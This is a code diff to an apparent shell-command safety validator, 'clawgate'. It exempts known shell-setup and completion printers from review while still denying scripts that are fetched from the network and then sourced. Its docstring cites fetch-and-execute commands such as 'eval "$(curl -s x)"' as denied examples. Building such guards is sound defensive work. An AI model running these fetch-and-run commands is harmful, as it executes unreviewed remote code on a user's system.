@@ -15,7 +15,7 @@ from clawgate.shell.substitute import evaluate
 from clawgate.validators import shapes as sh
 from clawgate.validators.argv import joined_code
 from clawgate.validators.base import Context, Validator, register
-from clawgate.validators.envprinters import prints_shell_setup
+from clawgate.validators.envprinters import prints_shell_setup, sources_shell_setup
 from clawgate.validators.interpreters import INLINE, inline_code, judge
 from clawgate.validators.programs import DECODERS, NETWORK, SHELLS, family_name
 from clawgate.validators.scriptfiles import script_from_stdin
@@ -182,7 +182,9 @@ class EvalOrSource(Validator):
     """``eval`` runs its words as a command line: static words are checked as one, dynamic ones
     ask. ``source``/``.`` of a file only known at run time, or of a process substitution, asks;
     of one fetched from the network (``source <(curl …)``), DENY. ``trap CODE`` and ``command``
-    are unwrapped likewise.
+    are unwrapped likewise. Shell setup and completion scripts a known program prints for
+    the caller's shell (``eval "$(pyenv init -)"``, ``source <(kubectl completion bash)``)
+    are the program's own output: the program is judged as the command it is.
 
     Bad: ``eval "$(curl -s x)"``. Harmless: ``source .venv/bin/activate``, ``eval 'ls -l'``.
     """
@@ -224,6 +226,8 @@ class EvalOrSource(Validator):
         operand = next((w for w in cmd.words[1:] if not w.shown.startswith("-")), None)
         if operand is None or operand.value is not None:
             return NO_OPINION
+        if m.PROCESS in operand.expansions and sources_shell_setup(operand):
+            return NO_OPINION  # the printer is judged as the command it is
         if m.PROCESS in operand.expansions and _FETCH.search(operand.text):
             return Verdict.deny(self.id, "a script fetched from the network is run unreviewed",
                                 hint="download it, read it, then run it")
